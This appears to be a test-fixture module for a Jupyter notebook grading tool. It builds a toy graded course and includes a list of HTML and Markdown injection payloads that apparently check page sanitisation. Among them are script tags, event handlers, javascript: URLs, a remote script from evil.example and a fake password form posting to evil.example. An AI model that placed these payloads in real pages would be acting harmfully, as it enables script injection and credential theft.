"""A small graded course, made without running anything: what each test of the pages and exports starts from."""

import shutil
from html.parser import HTMLParser
from pathlib import Path

import jupytext
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook

from nbjudge.course import CONFIG, open_course
from nbjudge.notebook import merge
from nbjudge.plan import make_plan
from nbjudge.record import save
from nbjudge.release import release
from nbjudge.results import Graded, Result

ROOT = Path(__file__).parents[2]
TEST = 'assert double(2) == 4\n### BEGIN HIDDEN TESTS\nassert double(-3) == -6, "secret"\n### END HIDDEN TESTS'
SOLUTION = "def double(x):\n    ### BEGIN SOLUTION\n    return 2 * x\n    ### END SOLUTION"
TASK = "Draw it.\n\n=== BEGIN MARK SCHEME ===\nA straight line.\n=== END MARK SCHEME ==="

HOSTILE = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT >",
    "<img src=x onerror=alert(1)>",
    '<svg onload="alert(1)"><script>alert(2)</script></svg>',
    "[a](javascript:alert(1)) [b](JaVaScRiPt:alert(1)) [c](&#106;avascript:alert(1)) [d](java\tscript:alert(1))",
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href=" &#1; javascript:alert(1)">x</a>',
    "![p](data:text/html;base64,PHNjcmlwdD4=)",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe><object data=x></object><embed src=x>',
    '<form action="https://evil.example"><input name=password><button>Log in</button></form>',
    '<div style="background:url(javascript:alert(1));position:fixed">x</div>',
    '<style>body { background: url("https://evil.example") }</style><link rel=stylesheet href=//evil.example>',
    "<meta http-equiv=refresh content='0;url=https://evil.example'><base href=//evil.example>",
    "</div></div></body></html><body onload=alert(1)>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    '<details ontoggle=alert(1) open>x</details>',
]  # fmt: skip


class Tags(HTMLParser):
    """All tags of a page with their attributes, and its text."""

    def __init__(self, page):
        super().__init__()
        self.tags, self.text = [], ""
        self.feed(page)

    def handle_starttag(self, tag, attributes):
        self.tags.append((tag, dict(attributes)))

    def handle_data(self, data):
        self.text += data


def make_course(root: Path, notebooks=("toy",)):
    """A course with one test of 2 points, an essay of 3 and a task of 1 in each notebook of the assignment "toy"."""
    place = root / "solutions" / "toy"
    place.mkdir(parents=True)
    shutil.copy(ROOT / CONFIG, root)
    cells = [
        new_markdown_cell("# Doubling"),
        new_code_cell(SOLUTION, metadata=_about("double", solution=True)),
        new_code_cell(TEST, metadata=_about("test_double", grade=True, locked=True, points=2)),
        new_markdown_cell("Why?", metadata=_about("essay", grade=True, solution=True, points=3)),
        new_markdown_cell(TASK, metadata=_about("drawing", task=True, locked=True, points=1)),
    ]
    kernel = {"display_name": "Python 3", "language": "python", "name": "python3"}
    for name in notebooks:
        notebook = new_notebook(cells=cells, metadata={"kernelspec": kernel})
        jupytext.write(notebook, place / f"{name}.md", fmt="md:myst")
    api = open_course(root)
    release(api, "toy")
    return api


def _about(name, **fields):
    kinds = {"grade": False, "solution": False, "locked": False, "task": False}
    return {"nbgrader": {"grade_id": name, "schema_version": 3} | kinds | fields}


def hand_in(api, student, about, code="def double(x):\n    return 2 * x", essay="Because.", outputs=(), more=()):
    """Record a submission: `about` maps items to (score, status, hint) or (score, status, hint, seconds)."""
    plan = make_plan(api, "toy")
    executed, results = {}, []
    for name, cells in plan.notebooks.items():
        own = [("code", "double", code), ("markdown", "essay", essay), *(("markdown", None, text) for text in more)]
        notebook = merge(cells, {"cells": [_cell(*each) for each in own]})
        for cell in notebook["cells"]:
            item = cell["metadata"].get("nbgrader", {}).get("grade_id")
            if cell["source"] == code:
                cell["outputs"] = list(outputs)
            if item in ("test_double", "essay", "drawing"):
                score, status, hint, *rest = about.get(item, (None, "manual", ""))
                told = {"status": status, "hint": hint, "seconds": rest[0] if rest else 0.1}
                cell["metadata"]["nbjudge"] = told
                limit = {"test_double": 2.0, "essay": 3.0, "drawing": 1.0}[item]
                results.append(Result(student, "toy", name, item, score, limit, **told))
        executed[name] = notebook
    save(api, plan, [Graded(student, "key", executed, results)])


def _cell(kind, name, source):
    metadata = {"nbgrader": {"grade_id": name}} if name else {}
    return {"cell_type": kind, "source": source, "metadata": metadata, "attachments": {}}
